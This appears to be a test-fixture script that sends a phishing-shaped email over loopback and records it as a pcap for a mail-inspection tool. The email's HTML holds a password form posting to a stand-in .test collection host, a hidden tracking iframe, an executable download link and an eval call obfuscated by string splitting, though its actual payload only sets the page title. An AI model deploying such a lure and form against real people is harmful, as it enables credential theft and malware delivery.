#!/usr/bin/env bash
# Recreates mail-html.pcap (maintainer script, not run in CI): a phishing-
# shaped mail whose HTML body (multipart/alternative beside its text form,
# quoted-printable) holds a hidden iframe, an obfuscated inline script, a
# password form posting to another site and a link to an executable, sent
# with Python's smtplib to aiosmtpd on loopback.
# Needs: tcpdump python3-aiosmtpd (apt). Everything is harmless: the script
# only sets document.title and every host is under .test (RFC 2606).
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
python3 -m aiosmtpd -n -l 127.0.0.1:2527 & SM=$!; sleep 1
tcpdump -i lo -w "$HERE/mail-html.pcap" -s 0 'tcp port 2527' & TD=$!; sleep 1
python3 - <<'P'
import smtplib
from email.message import EmailMessage
m = EmailMessage()
m["From"] = "IT Support <support@bank-example.test>"
m["To"] = "alice@example.test"
m["Subject"] = "Action required: verify your account"
m.set_content("Your mailbox is almost full. Verify your account at once.\n")
html = """<!DOCTYPE html><html><head><title>Mailbox verification</title></head>
<body><p>Your mailbox is almost full. Please verify your account.</p>
<iframe src="http://tracker.phish-evil.test/open.php?u=alice" style="display:none"></iframe>
<form action="http://collect.phish-evil.test/gate.php" method="post"><input name="email"><input type="password" name="pw"><input type="submit" value="Verify"></form>
<p><a href="http://files.phish-evil.test/MailboxCleaner.exe">Download the mailbox cleaner</a></p>
<script>var _k = "ev" + "al"; var s = unescape("%64%6F%63%75%6D%65%6E%74%2E%74%69%74%6C%65%3D%27%68%69%27"); window[_k](s);
var t = String.fromCharCode(104,105); document.write("<ifr" + "ame src='/x' width=1 height=1></iframe>");</script>
</body></html>
"""
m.add_alternative(html, subtype="html", cte="quoted-printable")
with smtplib.SMTP("127.0.0.1", 2527) as s:
    s.send_message(m)
P
sleep 1; kill $TD; kill $SM
